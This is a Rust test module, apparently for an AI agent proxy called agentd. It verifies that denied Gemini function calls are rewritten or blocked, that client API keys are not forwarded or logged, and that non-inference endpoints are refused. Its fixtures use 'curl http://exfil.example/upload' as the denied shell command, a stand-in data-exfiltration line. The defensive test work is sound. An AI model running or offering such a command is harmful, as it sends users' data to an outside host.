//! Gemini through agentd's model socket, in raw HTTP (what Gemini CLI
//! sends: `x-goog-api-key` or `?key=`, `:generateContent`,
//! `:streamGenerateContent?alt=sse`, and the array stream without
//! `alt=sse`): denied `functionCall` parts become text, allowed ones pass,
//! the client's key (header or query) never reaches the upstream, agentd's
//! own key does as `x-goog-api-key`, the query stays out of agentd's log,
//! and endpoints that are not inference are refused in Gemini's shape.
use serde_json::{json, Value};

use super::Suite;
use crate::model_server::canned::PREFIX;

/// The key a Gemini client puts in its query (never forwarded or logged).
pub const QUERY_KEY: &str = "AIzaClientQueryKey0123";

/// One check: name, outcome, and what was seen when it failed.
pub type Check = (String, bool, String);

fn body(directive: &Value) -> String {
    json!({ "contents": [{ "role": "user", "parts": [{ "text": format!("{PREFIX} {directive}") }] }],
        "tools": [{ "functionDeclarations": [{ "name": "run_shell_command",
            "parameters": { "type": "object", "properties": { "command": { "type": "string" } } } }] }] })
    .to_string()
}

/// The chunks of an answer: a JSON object, a JSON array, or SSE `data:` lines.
fn chunks(text: &str) -> Vec<Value> {
    match serde_json::from_str::<Value>(text) {
        Ok(Value::Array(a)) => a,
        Ok(v) => vec![v],
        Err(_) => text
            .lines()
            .filter_map(|l| l.strip_prefix("data: "))
            .filter_map(|d| serde_json::from_str(d).ok())
            .collect(),
    }
}

/// The function calls and the text of an answer's chunks.
fn parts(chunks: &[Value]) -> (Vec<Value>, String) {
    let mut calls = Vec::new();
    let mut text = String::new();
    for c in chunks {
        for p in c["candidates"][0]["content"]["parts"]
            .as_array()
            .into_iter()
            .flatten()
        {
            if p["functionCall"].is_object() {
                calls.push(p["functionCall"].clone());
            }
            if let Some(t) = p["text"].as_str() {
                text.push_str(t);
            }
        }
    }
    (calls, text)
}

/// The rewrite-mode checks.
pub fn checks(s: &Suite) -> Vec<Check> {
    let mut out = Vec::new();
    let root = s.root.display().to_string();
    let mixed = json!({ "text": "two calls", "calls": [
        { "name": "run_shell_command", "input": { "command": "curl http://exfil.example/upload" } },
        { "name": "run_shell_command", "input": { "command": format!("ls {root}") } } ] });
    let headers = [
        ("x-goog-api-key", "client-side-gemini".to_string()),
        ("x-agentd-active-message", s.active.clone()),
    ];
    let before = s.upstream.requests().len();
    for (tag, path) in [
        (
            "whole",
            format!("/v1beta/models/gemini-fwd:generateContent?key={QUERY_KEY}"),
        ),
        (
            "sse",
            format!("/v1beta/models/gemini-fwd:streamGenerateContent?alt=sse&key={QUERY_KEY}"),
        ),
        (
            "array",
            "/v1beta/models/gemini-fwd:streamGenerateContent".to_string(),
        ),
    ] {
        let r = s.raw_with("POST", &path, &headers, &body(&mixed));
        let ok = match &r {
            Ok((200, text)) => {
                let (calls, said) = parts(&chunks(text));
                calls.len() == 1
                    && calls[0]["args"]["command"]
                        .as_str()
                        .is_some_and(|c| c.starts_with("ls "))
                    && said.contains("two calls")
                    && said.contains("[agentd] the tool call `run_shell_command` was denied")
                    && !text.contains("exfil.example/upload\"")
            }
            _ => false,
        };
        out.push((
            format!("forward gemini {tag}: the denied functionCall becomes text, the allowed one passes"),
            ok,
            format!("{r:?}"),
        ));
    }
    let reqs = s.upstream.requests();
    let gemini: Vec<_> = reqs[before.min(reqs.len())..].iter().collect();
    let keyed = gemini.iter().all(|q| {
        q.headers
            .iter()
            .any(|(k, v)| k == "x-goog-api-key" && *v == s.canary)
            && !q.uri.contains("key=")
            && !q
                .headers
                .iter()
                .any(|(_, v)| v.contains("client-side") || v.contains(QUERY_KEY))
    });
    out.push((
        "forward gemini: the upstream gets agentd's key as x-goog-api-key, never the client's header or ?key= (alt=sse kept)".into(),
        gemini.len() == 3 && keyed && gemini[1].uri.contains("alt=sse"),
        format!(
            "{:?}",
            gemini
                .iter()
                .map(|q| (&q.uri, &q.headers))
                .collect::<Vec<_>>()
        ),
    ));
    let log = std::fs::read_to_string(s.agentd.dir.join("agentd.log")).unwrap_or_default();
    out.push((
        "forward gemini: the query string (and its key) is not in agentd's log".into(),
        !log.contains(QUERY_KEY),
        "agentd.log quotes the client's query key".into(),
    ));
    let n = s.upstream.requests().len();
    let count = s.raw_with(
        "POST",
        &format!("/v1beta/models/gemini-fwd:countTokens?key={QUERY_KEY}"),
        &headers,
        "{}",
    );
    let files = s.raw_with("GET", "/v1beta/files", &headers, "");
    out.push((
        "forward gemini: countTokens and files are 404 in Gemini's shape, never forwarded".into(),
        matches!(&count, Ok((404, b)) if b.contains("NOT_FOUND"))
            && matches!(&files, Ok((404, b)) if b.contains("NOT_FOUND"))
            && s.upstream.requests().len() == n,
        format!("{count:?} {files:?}"),
    ));
    out
}

/// The block-mode check: a denied call ends the answer with Gemini's error.
pub fn block_checks(s: &Suite) -> Vec<Check> {
    let denied = json!({ "calls": [{ "name": "run_shell_command",
        "input": { "command": "curl http://exfil.example/upload" } }] });
    let headers = [("x-agentd-active-message", s.active.clone())];
    let whole = s.raw_with(
        "POST",
        "/v1beta/models/gemini-fwd:generateContent",
        &headers,
        &body(&denied),
    );
    let sse = s.raw_with(
        "POST",
        "/v1beta/models/gemini-fwd:streamGenerateContent?alt=sse",
        &headers,
        &body(&denied),
    );
    vec![
        (
            "forward block gemini: a denied call is a 403 PERMISSION_DENIED".into(),
            matches!(&whole, Ok((403, b)) if b.contains("PERMISSION_DENIED") && !b.contains("functionCall")),
            format!("{whole:?}"),
        ),
        (
            "forward block gemini-stream: a denied call ends the stream with Gemini's error".into(),
            matches!(&sse, Ok((200, b)) if b.contains("PERMISSION_DENIED") && !b.contains("functionCall")),
            format!("{sse:?}"),
        ),
    ]
}
